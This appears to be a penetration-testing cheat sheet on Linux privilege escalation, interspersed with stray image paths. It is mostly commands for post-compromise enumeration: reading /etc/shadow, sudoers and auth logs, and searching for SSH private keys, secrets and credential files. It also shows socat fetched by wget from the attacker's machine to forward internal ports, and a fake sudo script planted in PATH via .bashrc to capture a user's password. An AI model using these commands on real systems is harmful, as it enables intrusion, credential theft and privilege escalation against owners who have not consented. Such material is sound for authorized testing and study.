Linux Privilege Escalation

Last modified: 2023-10-02

Privilege Escalation Remote Code Execution

Privilege Escalation (PrivEsc) is the act of exploiting a bug, a design flaw, or a configuration oversight in an operating system or software application to gain elevated access to resources that are normally protected from an application or user. Once you have root privileges on Linux, you can get sensitive information in the system.


There are some tools for investigating automatically.

Messages When Logged In

After logged in the target system, don’t miss the messages. We might find interesting information.OS Information

# Aliashostname -a
hostname -d
# IP address for the host name
hostname -i
# All IP address for the host
hostname -I

uname -a
# Kernel release
uname -r
# Kernel version
uname -v
# OS
uname -o

# OS kernel version
cat /proc/version
cat /etc/*release# Current user

# Environments
echo $PATH

# Positional arguments
echo $0
echo $1
echo $2

Find OS Vulnerability

If we run uname -a and get the OS version, search vulnerabilities.

Linux examplehost 4.4.0-31-generic #50-Ubuntu SMP Wed Jul 13 00:07:12 UTC 2016 x86_64 x86_64 x86_64 GNU/Linux

For example above, we can search ubuntu 4.4.0-31-generic in search engines.

Interesting Information# Bash files
# If we have the write permission for .bashrc or .profile,
# we can write arbitrary command to any line in that files.

# Authentication event logs
cat /var/log/auth.log | grep chpasswd
cat /var/log/auth.log | grep root
strings /var/log/auth.log | grep chpasswd
strings /var/log/auth.log | grep root

# Apache
cat /var/log/apache/access.log
cat /var/log/apache/error.log
cat /var/log/apache2/access.log
cat /var/log/apache2/error.log
cat /etc/apache2/.htpasswd
cat /etc/apache2/sites-enabled/domain.conf
cat /etc/apache2/sites-available/domain.conf
cat /etc/apache2/sites-available/000-default.conf
cat /usr/local/apache2/conf/httpd.conf
ls -al /usr/local/apache2/htdocs/

# Nginx
cat /var/log/nginx/access.logcat /var/log/nginx/error.log
cat /etc/nginx/nginx.conf
cat /etc/nginx/conf.d/.htpasswd
cat /etc/nginx/sites-available/
cat /etc/nginx/sites-enabled/
cat /usr/local/nginx/conf/nginx.conf
cat /usr/local/etc/nginx/nginx.conf

# PHP web conf
cat /etc/php/x.x/apache2/php.ini
cat /etc/php/x.x/cli/php.ini
cat /etc/php/x.x/fpm/php.ini

# Bash Files
cat .bashrc
cat .bash_history
cat .bash_profile
cat .profile
cat /var/log/bash.log

# Cron jobs
cat /etc/cron*
cat /etc/crontab
cat /etc/cron.d/*
cat /etc/cron.daily/*
cat /etc/cron.hourly/*
cat /etc/cron.monthly/*
cat /etc/cron.weekly/*
cat /var/spool/cron/*
cat /var/spool/cron/crontabs/*
# List all cron jobs
crontab -l
crontab -l -u username

# Hosts
cat /etc/hosts
# LDAP config
cat /etc/ldap/ldap.conf
# Messages
cat /etc/issue
cat /etc/motd

# MySQL (MariaDB)
cat /etc/mysql/my.cnf
cat /etc/mysql/debian.cnf
cat /etc/mysql/mariadb.cnf
cat /etc/mysql/conf.d/mysql.cnf
cat /etc/mysql/mysql.conf.d/mysql.cnf

# Nameserver
cat /etc/resolv.conf
# NFS settings
cat /etc/exports
cat /etc/pam.d/passwd
# Sudo config
cat /etc/sudoers
cat /etc/sudoers.d/usersgroup# SSH config
cat /etc/ssh/ssh_config
cat /etc/ssh/sshd_config
# Users and passwords
cat /etc/passwd
cat /etc/shadow
# List of all groups on the system
cat /etc/group

# File system tablecat /etc/fstab

# Xpad (sensitive information e.g. user password)
cat .config/xpad/*

# SSH keys
ls -la /home /root /etc/ssh /home/*/.ssh/; locate id_rsa; locate id_dsa; find / -name id_rsa 2> /dev/null; find / -name id_dsa 2> /dev/null; find / -name authorized_keys 2> /dev/null; cat /home/*/.ssh/id_rsa; cat /home/*/.ssh/id_dsa

# Root folder of web server
ls /var/www/

# Sometimes, we find something...
ls -la /opt/
ls -la /srv/

# Temporary files
ls -la /dev/shm/
ls -la /tmp# Services
ls -al /etc/systemd/system/
ls -al /lib/systemd/system/

# Mails
ls -la /var/mail
ls -la /var/spool/mail

# Security policies
ls -la /etc/apparmor.d/

# Kernel
# Print the message buffer of the kernel
# --human: Human readable output
dmesg --human
# --follow: Wait for new messages
dmesg --follow
# List kernel modules
cat /proc/modules

# Routing table
ip route show
# -r: route
# -n:don't resolve name
netstat -rn

# Check outdated packages
apt list --upgradable
apt list --upgradable | grep polkit

Open Ports

# -p: display PID/Program name for sockets
# -u: udp
# -n: don't resolve names
# -t: tcp
# -a: display all sockets
netstat -punta

# Filter only LISTEN ports
netstat -punta | grep -i listen

# -n: don't resolve service names
# -t: show only TCP sockets
# -p: show process using socket
# -u: show only UDP sockets
ss -ntpu

To find listening ports, add "-l" flag.

# -l: show listening sockets
ss -ltp

Access open ports that cannot be accessed from outsideIf we discover a listen port that cannot be accessed externally as below, we can access this port by port forwarding.

tcp  0  0*  LISTEN  -

There are various methods to do that.

  • Method 1. Using Socat

    In remote machine, download the socat and run it.

    # we need to download the socat binary file from local machine
    wget http://<local-ip>:<local-port>/socatchmod +x socat
    socat tcp-listen:8090,fork,reuseaddr tcp:localhost:8080
  • Method 2. Using SSH Tunnel (SSH credential required)

    In local machine, run the ‘ssh -L’.

    ssh -L 8090:localhost:8080 remote-user@<remote-ip>

Now we can access to http://<remote-ip>:8090/ in local machine and actually can get the content of http://<remote-ip>:8080/.

Process Monitors

# List all processes
# Select IPv[46] files
lsof -i
# Select IPv[46] files against specific port
lsof -i:53
lsof -i:80
# Select IPv[46] files against specific port (no port names)
lsof -i:53 -P
lsof -i:80 -P
# Specify user
lsof -u username

# Display the currently-running processes.
ps aux
ps aux | grep ping
# If the right side of the result is cut off, pipe with cat command.ps aux | cat
ps aux | cat | grep ping

By using pspy, you can fetch processes without root privileges.


# -p: printcommands to stdout
# -f: print file system events to stdout
# -i: interval in milliseconds
./pspy64 -pf -i 1000

Dump Information

If some process (like ping) is running as root, you may be able to capture the interesting information using tcpdump.

# -i lo: specify interface (lo: loopback address, localhost)
# -A: print each packet in ASCII
tcpdump -i lo -A

Override Command

If somecommand is executed in processes as our current user, we can override the command to our arbitrary command.
Assume sudo cat /etc/shadow command is executed in the process.
sudo command asks the password of the current user. So if we don't have the current user's password yet, worth getting the password.

To do so, we can create the fake sudo command under the current user’s home directory.

mkdir /home/<user>/bin
touch /home/<user>/bin/sudo
chmod +x /home/<user>/bin/sudo

Then insert a payload in /home/<user>/bin/sudo.
This sudo command reads the value of the password in prompt and write the value to “password.txt”.


read password
echo $password >> /home/<user>/password.txtIn addition, we need to export the /home/<user>/bin to the PATH on the top of the /home/<user>/.bashrc.

export PATH=/home/<user>/bin:$PATH

Wait a while, we should see the “password.txt” is created.

cat password.txt

Now we get the current user password.

Process Tracing

Sometimes we can retrieve the sensitive information by reading sequential processes with stract.

strace -e read -p `ps -ef | grep php | awk '{print $2}'`

Sensitive Files with Given Keywords

The "find" command searches files in the real system.

find / -name "*.txt" 2>/dev/null
find /opt -name "*.txt" 2>/dev/null
find / -name "passwd" 2>/dev/null
find / -name "authorized_keys" 2>/dev/null
find / -name "users" 2>/dev/null
find / -name "*user*" 2>/dev/null
find / -name "secret.key" -or -name "secret" 2>/dev/null
find / -name "credential*.txt" 2>/dev/null
find / -name "*secret*" -or -name "*credential*" 2>/dev/null
find / -name "*root*" -or -name "*password*" 2>/dev/null
find / -name "*.key" -or -name "*.db" 2>/dev/null
find / -name "*data*" 2>/dev/null
find / -name ".env" 2>/dev/null
find / -name "*flag*" 2>/dev/null# SQL files
find / -name "*.sql" 2>/dev/null
strings example.sql

# Backup files may contain sensitive information
find / -name "*backup*" 2>/dev/null
find / -name "*.bak*" 2>/dev/null
find / -name "*.back*" 2>/dev/null
find / -name "*.old" 2>/dev/null

# Histories
find / -name "*history*" 2>/dev/null

# Backup files for /etc/shadow.
# ex. /var/shadow.bak
find / -name *shadow* 2>/dev/null

# Kerberos
find / -name "*.keytab" 2>/dev/null

If you want to find more faster, use "locate" command.
